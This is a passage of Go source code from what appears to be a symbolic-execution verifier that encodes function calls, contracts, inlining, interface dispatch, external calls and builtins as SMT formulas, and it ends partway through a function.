func (fr *Frame) execCall(b *ssa.BasicBlock, st *State, ins ssa.CallInstruction) {
	fc := fr.fc
	cc := ins.Common()
	var resT types.Type
	if v := ins.Value(); v != nil {
		resT = v.Type()
	} else {
		resT = cc.Signature().Results()
	}
	pos := ins.Pos()
	var args []Val
	for _, a := range cc.Args {
		args = append(args, fr.val(a))
	}
	if cc.IsInvoke() {
		fc.escapeVal(fr.val(cc.Value))
		for _, a := range args {
			fc.escapeVal(a)
		}
	}
	if cc.IsInvoke() {
		fr.execInvoke(b, st, ins, cc, args, resT)
		return
	}
	switch callee := cc.Value.(type) {
	case *ssa.Builtin:
		fr.setResult(ins, fr.execBuiltin(b, st, callee, args, resT, pos))
		return
	case *ssa.Function:
		fr.setResult(ins, fr.callFunction(b, st, callee, args, resT, pos, ins))
		return
	case *ssa.MakeClosure:
		if fn, ok := callee.Fn.(*ssa.Function); ok {
			_ = fn
		}
	}
	for _, a := range args {
		fc.escapeVal(a)
	}
	// dynamic call through a function value
	fc.assumptions["dynamic call through function value in "+fr.fn.Name()+": treated as havoc of the whole heap"] = true
	fr.havocAll(st)
	res := fr.havocVal(resT, "dyn")
	fr.assume(b, fr.typeFacts(res, st))
	fr.setResult(ins, res)
}

func (fr *Frame) havocAll(st *State) {
	fc := fr.fc
	for _, name := range sortedKeys(fc.varSort) {
		sort := fc.varSort[name]
		if name == hAlloc {
			old := fc.get(st, hAlloc)
			nv := fc.freshConst(hAlloc, "Int")
			fc.addFact("true", sApp(">=", nv, old))
			fc.logWrite(hAlloc, "")
			st.vars[hAlloc] = nv
			continue
		}
		_ = sort
		fr.havocWhole(st, name)
	}
	fr.flushClosed(st)
	fc.havocAllUsed = true
}

func calleeName(fn *ssa.Function) string {
	return fn.String()
}

func (fr *Frame) callFunction(b *ssa.BasicBlock, st *State, callee *ssa.Function, args []Val, resT types.Type, pos token.Pos, ins ssa.CallInstruction) Val {
	res := fr.callFunction1(b, st, callee, args, resT, pos, ins)
	fr.callGhosts(b, st, calleeName(callee), args, res)
	return res
}

// callGhosts: `ghost at <callee> name: expr` - after a matching call the value of expr is recorded in the ghost
// variable; on paths without such a call the variable keeps its unconstrained entry value, so a post-condition
// over ghost(name) can only be proved when the call happened
func (fr *Frame) callGhosts(b *ssa.BasicBlock, st *State, name string, args []Val, res Val) {
	if fr.contract == nil || fr.inlined {
		return
	}
	for _, g := range fr.contract.Ghosts {
		if !strings.Contains(name, g.Callee) {
			continue
		}
		if g.Nth >= 0 {
			// only the n-th call of this callee (in the order the calls are met; meant for straight-line code)
			if fr.callCount == nil {
				fr.callCount = map[string]int{}
			}
			k := "ghost:" + g.Callee + "/" + g.Cl.Label
			n := fr.callCount[k]
			fr.callCount[k]++
			if g.Nth != n {
				continue
			}
		}
		vars := map[string]Val{}
		for kk, v := range fr.params {
			vars[kk] = v
		}
		for i, a := range args {
			vars[fmt.Sprintf("$%d", i)] = a
		}
		if res.IsAg {
			for i, a := range res.Agg {
				vars[fmt.Sprintf("$r%d", i)] = a
			}
		} else {
			vars["$r"] = res
		}
		env := &SpecEnv{fr: fr, vars: vars, now: st, old: fr.pre, pkg: fr.fn.Pkg.Pkg, header: fr.innermostHeader(b)}
		v := fr.evalSpec(g.Cl.E, env)
		hv := "$ghost:" + g.Cl.Label
		fr.fc.regVar(hv, "Int")
		fr.fc.logWrite(hv, "")
		fr.checkLoopWrite(hv, "")
		t := fr.scalar(v)
		if v.Typ != nil {
			if bt, ok := v.Typ.Underlying().(*types.Basic); ok && bt.Kind() == types.Bool {
				t = sIte(t, "1", "0")
			}
		}
		st.vars[hv] = t
	}
}

func (fr *Frame) callFunction1(b *ssa.BasicBlock, st *State, callee *ssa.Function, args []Val, resT types.Type, pos token.Pos, ins ssa.CallInstruction) Val {
	fc := fr.fc
	name := calleeName(callee)
	fr.callAsserts(b, st, name, args, pos)
	fr.callApplies(b, st, name, args, pos)
	// 1. native models
	if v, ok := fr.nativeCall(b, st, name, callee, args, resT, pos); ok {
		return v
	}
	// natively modelled callees (math/big etc.) do not retain their arguments; everything else might
	if !(fc.eng.inRepo(callee) && callee.Blocks != nil && fr.depth < 4 && fc.eng.inlinable(callee) && fc.eng.contractOf(callee) == nil) {
		for _, a := range args {
			fc.escapeVal(a)
		}
	}
	// 2. contract
	if c := fc.eng.contractOf(callee); c != nil && !c.Inline {
		return fr.contractCall(b, st, callee, c, args, resT, pos, "true")
	}
	// 3. inline small repo functions
	if fc.eng.inRepo(callee) && callee.Blocks != nil && fr.depth < 4 && fc.eng.inlinable(callee) {
		return fr.inlineCall(b, st, callee, args, resT, pos)
	}
	// 4. unknown
	return fr.unknownCall(b, st, name, callee, args, resT, pos)
}

func (e *Engine) inRepo(fn *ssa.Function) bool {
	return fn.Pkg != nil && strings.HasPrefix(fn.Pkg.Pkg.Path(), e.repoPrefix)
}

func (e *Engine) inlinable(fn *ssa.Function) bool {
	if len(fn.Blocks) == 0 || len(fn.Blocks) > 12 {
		return false
	}
	for _, b := range fn.Blocks {
		for _, s := range b.Succs {
			if s.Dominates(b) {
				return false // loop
			}
		}
		for _, ins := range b.Instrs {
			switch ins.(type) {
			case *ssa.Go, *ssa.Defer, *ssa.Select:
				return false
			}
		}
	}
	if fn.Recover != nil {
		return false
	}
	return true
}

func (fr *Frame) inlineCall(b *ssa.BasicBlock, st *State, callee *ssa.Function, args []Val, resT types.Type, pos token.Pos) Val {
	fc := fr.fc
	sub := &Frame{fc: fc, fn: callee, env: map[ssa.Value]Val{}, reach: map[int]string{}, exit: map[int]*State{}, edgeCnd: map[edgeKey]string{},
		inlined: true, parent: fr, parentBlock: b, prefix: fr.prefix + fr.src(pos, callee.Name()) + "/", depth: fr.depth + 1, propsList: fr.propsList, contract: nil, pre: st.clone()}
	if fr.contract != nil && !fr.contract.NoPanic {
		sub.contract = &Contract{NoPanic: false, LoopInv: map[int][]Clause{}}
	}
	for i, p := range callee.Params {
		if i < len(args) {
			a := args[i]
			a.Typ = p.Type()
			sub.env[p] = a
		}
	}
	for _, fv := range callee.FreeVars {
		sub.env[fv] = fr.havocVal(fv.Type(), "freevar")
	}
	sub.run(st, fr.reach[b.Index])
	// merge returns
	if len(sub.rets) == 0 {
		// never returns (panics): the rest of this block is unreachable
		fr.assume(b, "false")
		return fr.havocVal(resT, "noret")
	}
	// merged state
	keys := map[string]bool{}
	for _, r := range sub.rets {
		for k := range r.st.vars {
			keys[k] = true
		}
	}
	for _, k := range sortedKeys(keys) {
		terms := make([]string, len(sub.rets))
		same := true
		for i, r := range sub.rets {
			terms[i] = fc.get(r.st, k)
			if terms[i] != terms[0] {
				same = false
			}
		}
		if same {
			st.vars[k] = terms[0]
			continue
		}
		acc := terms[len(terms)-1]
		for i := len(terms) - 2; i >= 0; i-- {
			acc = sIte(sub.rets[i].guard, terms[i], acc)
		}
		c := fc.freshConst(k, fc.sortOfVar(k))
		fc.addFact("true", sEq(c, acc))
		if fc.parents == nil {
			fc.parents = map[string][]string{}
		}
		fc.parents[c] = append(fc.parents[c], terms...)
		st.vars[k] = c
	}
	// the call returns iff one of the return sites is reached
	var gs []string
	for _, r := range sub.rets {
		gs = append(gs, r.guard)
	}
	fr.assume(b, sOr(gs...))
	// result
	nres := callee.Signature.Results().Len()
	if nres == 0 {
		return Val{IsAg: true, Typ: resT}
	}
	mergeAt := func(i int, t types.Type) Val {
		var vals []Val
		for _, r := range sub.rets {
			vals = append(vals, r.vals[i])
		}
		return fr.mergeRet(sub.rets, vals, t)
	}
	if nres == 1 {
		return mergeAt(0, callee.Signature.Results().At(0).Type())
	}
	out := Val{IsAg: true, Typ: resT}
	for i := 0; i < nres; i++ {
		out.Agg = append(out.Agg, mergeAt(i, callee.Signature.Results().At(i).Type()))
	}
	return out
}

func (fr *Frame) mergeRet(rets []retSite, vals []Val, t types.Type) Val {
	if len(vals) == 1 {
		return vals[0]
	}
	if vals[0].IsAg {
		out := Val{Typ: t, IsAg: true}
		for i := range vals[0].Agg {
			var sub []Val
			for _, v := range vals {
				sub = append(sub, v.Agg[i])
			}
			out.Agg = append(out.Agg, fr.mergeRet(rets, sub, vals[0].Agg[i].Typ))
		}
		return out
	}
	terms := make([]string, len(vals))
	same := true
	for i, v := range vals {
		terms[i] = fr.scalar(v)
		if terms[i] != terms[0] {
			same = false
		}
	}
	if same {
		v := vals[0]
		v.Typ = t
		return v
	}
	acc := terms[len(terms)-1]
	for i := len(terms) - 2; i >= 0; i-- {
		acc = sIte(rets[i].guard, terms[i], acc)
	}
	c := fr.fc.freshConst("ret", sortOf(t))
	fr.fc.addFact("true", sEq(c, acc))
	return Val{S: c, Typ: t}
}

// ---------------------------------------------------------------------------
// contract calls

func (fr *Frame) bindParams(callee *ssa.Function, args []Val) map[string]Val {
	env := map[string]Val{}
	for i, p := range callee.Params {
		if i < len(args) {
			a := args[i]
			a.Typ = p.Type()
			env[p.Name()] = a
			env[fmt.Sprintf("$%d", i)] = a
		}
	}
	return env
}

func (fr *Frame) contractCall(b *ssa.BasicBlock, st *State, callee *ssa.Function, c *Contract, args []Val, resT types.Type, pos token.Pos, extraGuard string) Val {
	fc := fr.fc
	if c.Trusted != "" {
		fc.eng.trustedUsed[shortFn(callee)+": "+c.Trusted] = true
		fc.trusted[shortFn(callee)+": "+c.Trusted] = true
	}
	penv := fr.bindParams(callee, args)
	guard := sAnd(fr.reach[b.Index], extraGuard)
	// requires
	for _, rq := range c.Requires {
		env := &SpecEnv{fr: fr, vars: penv, now: st, old: st, pkg: fnPkg(callee)}
		t, sks := fr.evalGoal(rq.E, env)
		fc.obligeSplit("pre", fr.prefix+shortFn(callee)+"."+rq.Label, guard, t, pos, fr.safetyProps(), true, sks)
	}
	old := st.clone()
	// havoc
	if !c.ModGiven && !c.Pure {
		fr.havocAll(st)
		fc.assumptions["contract of "+shortFn(callee)+" has no modifies clause: callers havoc the whole heap"] = true
	} else {
		// allocation may advance - before the havoc, so that the heap versions it creates are closed with respect to
		// the frontier AFTER the call: the callee may store objects it allocated into what it modifies. (The other
		// order made "the field the callee modified holds an object older than the call" a ground fact, which
		// contradicts a post-condition saying the field holds the callee's fresh result: everything after such a call
		// was vacuously true in the query variants that carry ground closedness instances.)
		fc.regVar(hAlloc, "Int")
		oa := fc.get(st, hAlloc)
		na := fc.freshConst(hAlloc, "Int")
		fc.addFact("true", sApp(">=", na, oa))
		fc.logWrite(hAlloc, "")
		st.vars[hAlloc] = na
		for _, m := range c.Modifies {
			env := &SpecEnv{fr: fr, vars: penv, now: old, old: old, pkg: fnPkg(callee)}
			fr.havocLoc(st, m, env)
		}
		fr.flushClosed(st)
	}
	// results
	res := fr.havocVal(resT, "res_"+callee.Name())
	fr.fc.addFact(guard, fr.typeFacts(res, st))
	renv := map[string]Val{}
	for k, v := range penv {
		renv[k] = v
	}
	fr.bindResults(renv, callee, res)
	if c.Fresh {
		if !res.IsAg {
			fc.addFact(guard, sAnd(sApp(">", res.S, fc.get(old, hAlloc)), sApp(">", res.S, "0")))
		} else if len(res.Agg) > 0 && !res.Agg[0].IsAg {
			fc.addFact(guard, sOr(sEq(res.Agg[0].S, "0"), sApp(">", res.Agg[0].S, fc.get(old, hAlloc))))
		}
	}
	// a result that the callee's contract unconditionally calls fresh, of a callee that modifies nothing, is
	// referenced from no heap location: it is as local as an object allocated here (only for targets without
	// reference-typed fields, which cannot point back to themselves)
	if c.ModGiven && len(c.Modifies) == 0 && (extraGuard == "" || extraGuard == "true") && len(activeLogs[fc]) == 0 {
		for _, en := range c.Ensures {
			for _, name := range topLevelFresh(en.E) {
				if v, ok := renv[name]; ok && !v.IsAg && v.Typ != nil && plainTarget(v.Typ) {
					if fc.localRefs == nil {
						fc.localRefs = map[string]bool{}
					}
					fc.localRefs[v.S] = true
				}
			}
		}
	}
	for _, pr := range c.Premises {
		env := &SpecEnv{fr: fr, vars: renv, now: st, old: old, pkg: fnPkg(callee)}
		t, qs := fr.evalFact(pr.E, env)
		fc.addFactQ(guard, t, qs)
		fc.assumptions[fmt.Sprintf("premise on %s (assumed by callers, not proved): %s", shortFn(callee), pr.Src)] = true
	}
	for _, en := range c.Ensures {
		env := &SpecEnv{fr: fr, vars: renv, now: st, old: old, pkg: fnPkg(callee)}
		t, qs := fr.evalFact(en.E, env)
		fc.addFactQ(guard, t, qs)
		// a post-condition `len(result) == <numeral>` makes later appends of the result unrollable
		var rs []Val
		if res.IsAg {
			rs = res.Agg
		} else {
			rs = []Val{res}
		}
		for _, r := range rs {
			if r.IsAg || r.Typ == nil {
				continue
			}
			if _, ok := r.Typ.Underlying().(*types.Slice); !ok {
				continue
			}
			if m := regexp.MustCompile(`\(= \(sl_len ` + regexp.QuoteMeta(r.S) + `\) (\d+)\)`).FindStringSubmatch(t); m != nil && !strings.Contains(t, "=>") {
				var n int64
				fmt.Sscan(m[1], &n)
				fc.knownLen[r.S] = n
			}
		}
	}
	return res
}

func (fr *Frame) bindResults(env map[string]Val, callee *ssa.Function, res Val) {
	sig := callee.Signature
	n := sig.Results().Len()
	if n == 0 {
		return
	}
	if n == 1 {
		env["result"] = res
		if nm := sig.Results().At(0).Name(); nm != "" && nm != "_" {
			env[nm] = res
		}
		if isErrorType(sig.Results().At(0).Type()) {
			env["err"] = res
		}
		return
	}
	for i := 0; i < n && i < len(res.Agg); i++ {
		env[fmt.Sprintf("result%d", i)] = res.Agg[i]
		if nm := sig.Results().At(i).Name(); nm != "" && nm != "_" {
			env[nm] = res.Agg[i]
		}
		if isErrorType(sig.Results().At(i).Type()) {
			env["err"] = res.Agg[i]
		}
	}
	env["result"] = res.Agg[0]
}

func isErrorType(t types.Type) bool {
	n, ok := t.(*types.Named)
	return ok && n.Obj().Pkg() == nil && n.Obj().Name() == "error"
}

// havoc one modifies location
func (fr *Frame) havocLoc(st *State, m ModLoc, env *SpecEnv) {
	fc := fr.fc
	for _, t := range fr.modTargets(m, env) {
		switch t.kind {
		case "row1":
			fc.regVar(t.heap, t.sort)
			hv := fc.freshConst("hv", strings.TrimSuffix(strings.TrimPrefix(t.sort, "(Array Int "), ")"))
			fr.wr1(st, t.heap, t.row, hv)
			fc.pendingVals = append(fc.pendingVals, Val{S: hv, Typ: heapValType[t.heap]})
		case "row2":
			fc.regVar(t.heap, t.sort)
			inner := strings.TrimSuffix(strings.TrimPrefix(t.sort, "(Array Int "), ")")
			hv := fc.freshConst("hvrow", inner)
			fr.wrRow(st, t.heap, t.row, hv)
			fc.pendingRows = append(fc.pendingRows, [2]string{hv, t.heap})
		case "whole":
			if _, ok := fc.varSort[t.heap]; ok {
				fr.havocWhole(st, t.heap)
			}
		}
	}
}

type modTarget struct {
	kind string // row1, row2, whole
	heap string
	sort string
	row  string
}

// modTargets translates a modifies location into heap rows
func (fr *Frame) modTargets(m ModLoc, env *SpecEnv) []modTarget {
	fc := fr.fc
	switch e := m.E.(type) {
	case *ECall:
		switch e.Fn {
		case "val":
			v := fr.evalSpec(e.Args[0], env)
			fc.regVar(hBV, arrSort("Int"))
			return []modTarget{{"row1", hBV, arrSort("Int"), fr.scalar(v)}}
		case "elems":
			v := fr.evalSpec(e.Args[0], env)
			sl, ok := v.Typ.Underlying().(*types.Slice)
			if !ok {
				fc.unsupported("modifies elems() of non-slice")
				return nil
			}
			h := heapElem(sl.Elem())
			return []modTarget{{"row2", h, arr2Sort(sortOf(sl.Elem())), sApp("sl_arr", fr.scalar(v))}}
		case "mapof":
			v := fr.evalSpec(e.Args[0], env)
			mt := v.Typ
			fr.regMap(mt)
			mp := mt.Underlying().(*types.Map)
			return []modTarget{{"row2", heapMapP(mt), arr2Sort("Bool"), fr.scalar(v)}, {"row2", heapMapV(mt), arr2Sort(sortOf(mp.Elem())), fr.scalar(v)}}
		case "fields":
			v := fr.evalSpec(e.Args[0], env)
			pt, ok := v.Typ.Underlying().(*types.Pointer)
			if !ok {
				fc.unsupported("modifies fields() of non-pointer")
				return nil
			}
			var ls []leaf
			leafFields(pt.Elem(), "", &ls)
			var out []modTarget
			for _, l := range ls {
				if l.sub {
					if isBigInt(l.typ) {
						out = append(out, modTarget{"row1", hBV, arrSort("Int"), fr.subRef(fr.scalar(v), pt.Elem(), l.path)})
					}
					continue
				}
				out = append(out, modTarget{"row1", fc.fieldHeap(pt.Elem(), l.path, l.typ), arrSort(sortOf(l.typ)), fr.scalar(v)})
			}
			return out
		case "anyfields":
			v := fr.evalSpec(e.Args[0], env)
			pay, pt := fr.ifaceTarget(v)
			var out []modTarget
			if pt != nil {
				if ptr, ok := pt.Underlying().(*types.Pointer); ok {
					var ls []leaf
					leafFields(ptr.Elem(), "", &ls)
					for _, l := range ls {
						if l.sub {
							continue
						}
						out = append(out, modTarget{"row1", fc.fieldHeap(ptr.Elem(), l.path, l.typ), arrSort(sortOf(l.typ)), pay})
					}
					return out
				}
			}
			r := sApp("ipay", fr.scalar(v))
			for _, name := range sortedKeys(fc.varSort) {
				sort := fc.varSort[name]
				if strings.HasPrefix(name, "F:") {
					out = append(out, modTarget{"row1", name, sort, r})
				}
			}
			return out
		case "onlyfresh", "funcfresh":
			// onlyfresh("substr"): in heaps whose name contains substr only objects allocated later are written
			// funcfresh("substr") (loop frames): only objects allocated since the FUNCTION was entered are written
			if id, ok := e.Args[0].(*EStr); ok {
				kind := "none"
				if e.Fn == "funcfresh" {
					kind = "nonefn"
				}
				var out []modTarget
				for _, name := range sortedKeys(fc.varSort) {
					if strings.Contains(name, id.V) && name != hAlloc {
						out = append(out, modTarget{kind, name, fc.varSort[name], ""})
					}
				}
				return out
			}
		case "heap":
			// heap(name): whole heap variable by (suffix) name
			if id, ok := e.Args[0].(*EStr); ok {
				var out []modTarget
				for _, name := range sortedKeys(fc.varSort) {
					if strings.Contains(name, id.V) {
						out = append(out, modTarget{"whole", name, "", ""})
					}
				}
				return out
			}
		case "everything":
			var out []modTarget
			for _, name := range sortedKeys(fc.varSort) {
				if name != hAlloc {
					out = append(out, modTarget{"whole", name, "", ""})
				}
			}
			return out
		}
	case *ESel:
		// x.f : field f of object x
		base := fr.evalSpec(e.X, env)
		l, ft, ok := fr.specFieldLoc(base, e.Name)
		if !ok {
			fc.unsupported("modifies: cannot resolve %s", m.Src)
			return nil
		}
		if l.Kind == LField {
			return []modTarget{{"row1", l.Heap, arrSort(sortOf(ft)), l.Base}}
		}
		if l.Kind == LObj && isBigInt(ft) {
			return []modTarget{{"row1", hBV, arrSort("Int"), l.Base}}
		}
	}
	fc.unsupported("modifies: unsupported location %s", m.Src)
	return nil
}

// ---------------------------------------------------------------------------
// interface method calls: case split over the declared implementers

func (fr *Frame) execInvoke(b *ssa.BasicBlock, st *State, ins ssa.CallInstruction, cc *ssa.CallCommon, args []Val, resT types.Type) {
	fc := fr.fc
	recv := fr.val(cc.Value)
	rid := fr.scalar(recv)
	it := cc.Value.Type()
	pos := ins.Pos()
	fr.ob("nil", "invoke:"+fr.src(pos, cc.Method.Name()), b, sNot(sEq(rid, "0")), pos)
	// native models for well-known interfaces
	if v, ok := fr.nativeInvoke(b, st, it, cc.Method, recv, args, resT, pos); ok {
		fr.setResult(ins, v)
		return
	}
	key := ""
	if n, ok := it.(*types.Named); ok && n.Obj().Pkg() != nil {
		key = n.Obj().Pkg().Path() + "." + n.Obj().Name()
	}
	impls := fc.eng.cs.Impl[key]
	if len(impls) == 0 {
		fc.assumptions[fmt.Sprintf("interface call %s.%s without declared implementers: result havoc, heap havoc", key, cc.Method.Name())] = true
		fr.havocAll(st)
		res := fr.havocVal(resT, "invoke")
		fr.assume(b, fr.typeFacts(res, st))
		fr.setResult(ins, res)
		return
	}
	// resolve implementer types
	n := it.(*types.Named)
	var conds []string
	type branch struct {
		cond string
		st   *State
		res  Val
	}
	var brs []branch
	for _, ts := range impls {
		ct := fc.eng.resolveType(n.Obj().Pkg(), ts)
		if ct == nil {
			fc.unsupported("cannot resolve implementer type %s", ts)
			continue
		}
		ms := fc.eng.prog.MethodSets.MethodSet(ct)
		sel := ms.Lookup(cc.Method.Pkg(), cc.Method.Name())
		if sel == nil {
			fc.unsupported("implementer %s lacks method %s", ts, cc.Method.Name())
			continue
		}
		m := fc.eng.prog.MethodValue(sel)
		tag := fmt.Sprint(fc.eng.typeTag(ct))
		cond := sEq(sApp("itype", rid), tag)
		conds = append(conds, cond)
		bst := st.clone()
		recvVal := Val{S: sApp("ipay", rid), Typ: ct}
		cargs := append([]Val{recvVal}, args...)
		var res Val
		// the branch runs under an additional guard
		saved := fr.reach[b.Index]
		g := fc.freshConst("Rinv", "Bool")
		fc.addFact("true", sEq(g, sAnd(saved, cond)))
		fr.reach[b.Index] = g
		fr.callAsserts(b, bst, calleeName(m), cargs, pos)
		if c := fc.eng.contractOf(m); c != nil {
			res = fr.contractCall(b, bst, m, c, cargs, resT, pos, "true")
		} else if fc.eng.inlinable(m) && fr.depth < 4 {
			res = fr.inlineCall(b, bst, m, cargs, resT, pos)
		} else {
			fc.assumptions["implementer method "+shortFn(m)+" has no contract: havoc"] = true
			fr.havocAll(bst)
			res = fr.havocVal(resT, "invoke")
		}
		fr.reach[b.Index] = saved
		brs = append(brs, branch{cond, bst, res})
	}
	fr.ob("assert", "implementer:"+fr.src(pos, cc.Method.Name()), b, sOr(conds...), pos)
	if len(brs) == 0 {
		fr.setResult(ins, fr.havocVal(resT, "invoke"))
		return
	}
	// merge branch states
	keys := map[string]bool{}
	for _, br := range brs {
		for k := range br.st.vars {
			keys[k] = true
		}
	}
	for _, k := range sortedKeys(keys) {
		terms := make([]string, len(brs))
		same := true
		for i, br := range brs {
			terms[i] = fc.get(br.st, k)
			if terms[i] != terms[0] {
				same = false
			}
		}
		if same {
			st.vars[k] = terms[0]
			continue
		}
		acc := terms[len(terms)-1]
		for i := len(terms) - 2; i >= 0; i-- {
			acc = sIte(brs[i].cond, terms[i], acc)
		}
		c := fc.freshConst(k, fc.sortOfVar(k))
		fc.addFact("true", sEq(c, acc))
		if fc.parents == nil {
			fc.parents = map[string][]string{}
		}
		fc.parents[c] = append(fc.parents[c], terms...)
		fc.logWrite(k, "")
		st.vars[k] = c
	}
	var rets []retSite
	var vals []Val
	for _, br := range brs {
		rets = append(rets, retSite{guard: br.cond})
		vals = append(vals, br.res)
	}
	fr.setResult(ins, fr.mergeRet(rets, vals, resT))
}

func (e *Engine) resolveType(pkg *types.Package, s string) types.Type {
	if strings.HasPrefix(s, "[]") {
		el := e.resolveType(pkg, s[2:])
		if el == nil {
			return nil
		}
		return types.NewSlice(el)
	}
	if s == "any" {
		return types.NewInterfaceType(nil, nil).Complete()
	}
	ptr := 0
	for strings.HasPrefix(s, "*") {
		ptr++
		s = s[1:]
	}
	var obj types.Object
	if i := strings.LastIndex(s, "."); i >= 0 {
		pn, tn := s[:i], s[i+1:]
		for _, p := range e.pkgs {
			if p.Types.Name() == pn || p.PkgPath == pn || strings.HasSuffix(p.PkgPath, "/"+pn) {
				obj = p.Types.Scope().Lookup(tn)
				if obj != nil {
					break
				}
			}
		}
		if obj == nil {
			// imported packages
			for _, p := range e.prog.AllPackages() {
				if p.Pkg.Name() == pn || p.Pkg.Path() == pn {
					if o := p.Pkg.Scope().Lookup(tn); o != nil {
						obj = o
						break
					}
				}
			}
		}
	} else {
		if pkg != nil {
			obj = pkg.Scope().Lookup(s)
		}
		if obj == nil {
			obj = types.Universe.Lookup(s)
		}
	}
	if obj == nil {
		return nil
	}
	t := obj.Type()
	for i := 0; i < ptr; i++ {
		t = types.NewPointer(t)
	}
	return t
}

// ---------------------------------------------------------------------------
// unknown (external, uncontracted) calls

var pureExternals = []string{
	"errors.New", "github.com/go-errors/errors.", "fmt.Sprintf", "fmt.Errorf", "fmt.Sprint", "strconv.", "strings.",
	"(*github.com/sirupsen/logrus.Logger).", "(*github.com/sirupsen/logrus.Entry).", "github.com/sirupsen/logrus.",
	"time.Now", "time.Unix", "(time.Time).", "time.Since", "math/bits.", "bytes.Equal", "bytes.Compare", "crypto/subtle.", "math.",
	"(*github.com/go-errors/errors.Error).", "sort.Search", "slices.Contains", "unicode.", "(*encoding/base64.Encoding).DecodeString", "(*encoding/base64.Encoding).EncodeToString",
}

func (fr *Frame) unknownCall(b *ssa.BasicBlock, st *State, name string, callee *ssa.Function, args []Val, resT types.Type, pos token.Pos) Val {
	fc := fr.fc
	pure := false
	for _, p := range pureExternals {
		if strings.HasPrefix(name, p) {
			pure = true
			break
		}
	}
	if fc.eng.inRepo(callee) {
		fc.assumptions["repo function "+shortFn(callee)+" called without contract and not inlinable: result and pointer-argument targets havoc"] = true
	} else if !pure {
		fc.assumptions["external "+name+": result havoc, targets of pointer/slice arguments havoc (one level), no other effect assumed"] = true
	}
	if !pure {
		for _, a := range args {
			fr.havocReach(st, a)
		}
		oa := fc.get(st, hAlloc)
		fc.regVar(hAlloc, "Int")
		na := fc.freshConst(hAlloc, "Int")
		fc.addFact("true", sApp(">=", na, oa))
		fc.logWrite(hAlloc, "")
		st.vars[hAlloc] = na
	}
	res := fr.havocVal(resT, "ext_"+callee.Name())
	fr.assume(b, fr.typeFacts(res, st))
	if (name == "errors.New" || name == "fmt.Errorf") && !res.IsAg {
		// the standard error constructors never return nil
		fc.trusted[name+": returns a non-nil error"] = true
		fr.assume(b, sNot(sEq(res.S, "0")))
	}
	return res
}

// one-level havoc of what a pointer/slice/map argument refers to
func (fr *Frame) havocReach(st *State, a Val) {
	fc := fr.fc
	if a.IsAg {
		for _, x := range a.Agg {
			fr.havocReach(st, x)
		}
		return
	}
	if a.Typ == nil {
		return
	}
	switch u := a.Typ.Underlying().(type) {
	case *types.Pointer:
		l := fr.locOf(a)
		el := u.Elem()
		if isBigInt(el) {
			fc.regVar(hBV, arrSort("Int"))
			fr.wr1(st, hBV, fr.ptrTerm(a), fc.freshConst("hv", "Int"))
			return
		}
		if l.Kind == LObj {
			fr.storeLoc(st, l, fr.havocVal(el, "hv"))
		} else {
			fr.storeLoc(st, l, fr.havocVal(el, "hv"))
		}
	case *types.Slice:
		h := heapElem(u.Elem())
		if isAggType(u.Elem()) {
			return
		}
		fc.regVar(h, arr2Sort(sortOf(u.Elem())))
		fr.wrRow(st, h, sApp("sl_arr", fr.scalar(a)), fc.freshConst("hvrow", arrSort(sortOf(u.Elem()))))
	case *types.Interface:
		// a pointer wrapped in an interface (reflection-based decoders take `any`): the object it points to
		pay, pt := fr.ifaceTarget(a)
		if pt != nil {
			if _, again := pt.Underlying().(*types.Interface); !again {
				fr.havocReach(st, Val{S: pay, Typ: pt})
			}
		} else if a.S != "" {
			fc.assumptions["interface argument of unknown dynamic type passed to a function without model: only fields at the wrapped reference are havocked, in the heaps known so far"] = true
			fr.havocAnyFields(st, sApp("ipay", fr.scalar(a)))
		}
	case *types.Map:
		fr.regMap(a.Typ)
		fr.wrRow(st, heapMapP(a.Typ), fr.scalar(a), fc.freshConst("hvrow", arrSort("Bool")))
		fr.wrRow(st, heapMapV(a.Typ), fr.scalar(a), fc.freshConst("hvrow", arrSort(sortOf(u.Elem()))))
	}
}

// ---------------------------------------------------------------------------
// Go builtins

func (fr *Frame) execBuiltin(b *ssa.BasicBlock, st *State, bi *ssa.Builtin, args []Val, resT types.Type, pos token.Pos) Val {
	fc := fr.fc
	switch bi.Name() {
	case "len":
		a := args[0]
		switch u := a.Typ.Underlying().(type) {
		case *types.Slice:
			return Val{S: sApp("sl_len", fr.scalar(a)), Typ: resT}
		case *types.Basic:
			return Val{S: sApp("strlen", fr.scalar(a)), Typ: resT}
		case *types.Map:
			fr.regMap(a.Typ)
			m := fr.scalar(a)
			row := fc.rd(st, heapMapP(a.Typ), m)
			r := sIte(sEq(m, "0"), "0", sApp("card", row))
			fr.cardFacts(row)
			return Val{S: r, Typ: resT}
		case *types.Array:
			return Val{S: fmt.Sprint(u.Len()), Typ: resT}
		case *types.Pointer:
			if at, ok := u.Elem().Underlying().(*types.Array); ok {
				return Val{S: fmt.Sprint(at.Len()), Typ: resT}
			}
		case *types.Chan:
			c := fc.freshConst("chanlen", "Int")
			fc.addFact("true", sApp(">=", c, "0"))
			return Val{S: c, Typ: resT}
		}
	case "cap":
		a := args[0]
		switch u := a.Typ.Underlying().(type) {
		case *types.Slice:
			return Val{S: sApp("sl_cap", fr.scalar(a)), Typ: resT}
		case *types.Array:
			return Val{S: fmt.Sprint(u.Len()), Typ: resT}
		}
	case "append":
		return fr.execAppend(b, st, args, resT, pos)
	case "copy":
		return fr.execCopy(b, st, args, resT, pos)
	case "delete":
		mt := args[0].Typ
		fr.regMap(mt)
		m := fr.scalar(args[0])
		k := fr.scalar(args[1])
		// delete on nil map is a no-op
		cur := fc.get(st, heapMapP(mt))
		fr.checkLoopWrite(heapMapP(mt), m)
		fc.logWrite(heapMapP(mt), m)
		fc.setDef(st, "true", heapMapP(mt), sIte(sEq(m, "0"), cur, sStore(cur, m, sStore(sSel(cur, m), k, "false"))))
		return Val{IsAg: true, Typ: resT}
	case "print", "println":
		return Val{IsAg: true, Typ: resT}
	case "min", "max":
		op := "<="
		if bi.Name() == "max" {
			op = ">="
		}
		acc := fr.scalar(args[0])
		for _, a := range args[1:] {
			x := fr.scalar(a)
			acc = sIte(sApp(op, acc, x), acc, x)
		}
		return Val{S: acc, Typ: resT}
	case "close":
		return Val{IsAg: true, Typ: resT}
	case "ssa:wrapnilchk":
		fr.ob("nil", fr.src(pos, "wrapnilchk"), b, sNot(sEq(fr.scalar(args[0]), "0")), pos)
		return args[0]
	}
	fc.unsupported("builtin %s", bi.Name())
	return fr.havocVal(resT, "builtin")
}

func (fr *Frame) cardFacts(row string) {
	fc := fr.fc
	k := "card:" + row
	if fc.declSet[k] || reBoundVar.MatchString(row) {
		return
	}
	fc.declSet[k] = true
	fc.permFact(sApp(">=", sApp("card", row), "0"))
